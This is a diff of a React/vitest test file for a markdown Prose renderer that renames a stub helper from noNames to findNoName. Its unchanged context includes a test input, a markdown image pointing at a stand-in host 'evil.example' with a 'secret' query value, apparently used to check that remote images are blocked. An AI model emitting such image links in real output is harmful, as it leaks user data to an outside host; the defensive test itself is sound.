@@ -8,9 +8,9 @@ import { getHost, isTextOfHost } from './urls'
 
 vi.stubGlobal('document', { documentElement: {} })
 await loadLanguage('en')
-const noNames = () => null
+const findNoName = () => null
 const renderHtml = (text: string, growing = false) =>
-  renderToStaticMarkup(<Prose text={text} names={noNames} growing={growing} />)
+  renderToStaticMarkup(<Prose text={text} names={findNoName} growing={growing} />)
 
 const remote = [
   '![a](https://evil.example/a.png?q=secret)',
@@ -256,7 +256,7 @@ describe('citations', () => {
     const html = (open: (() => void) | null) =>
       renderToStaticMarkup(
         <CitationContext value={open}>
-          <Prose text={text} names={noNames} />
+          <Prose text={text} names={findNoName} />
         </CitationContext>,
       )
     expect(html(() => undefined).match(/<button[^>]*aria-label="[^"]*"/g)).toEqual([
